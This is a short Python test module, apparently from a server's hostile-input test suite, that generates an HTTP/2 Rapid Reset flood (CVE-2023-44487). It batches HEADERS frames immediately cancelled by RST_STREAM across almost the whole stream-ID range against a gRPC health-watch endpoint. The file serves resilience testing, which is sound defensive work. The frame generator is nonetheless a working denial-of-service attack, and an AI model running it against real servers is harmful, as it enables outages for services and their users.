"""Calls that are cancelled as soon as they are begun (CVE-2023-44487)."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from tests.hostile.floods.frame_flood import FrameFlood
from tests.hostile.http2 import END_HEADERS, HEADERS, RST_STREAM, call_headers, frame

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["RapidReset"]

_CANCEL = struct.pack(">I", 8)


class RapidReset(FrameFlood):
    """Streams never count as open for long, so that no limit of open streams applies."""

    name = "rapid reset"

    def frames(self) -> Iterator[bytes]:
        """Yield a hundred calls at a time."""
        headers = call_headers("/grpc.health.v1.Health/Watch")
        for first in range(1, 2**31 - 200, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, _CANCEL)
                for stream in range(first, first + 200, 2)
            )
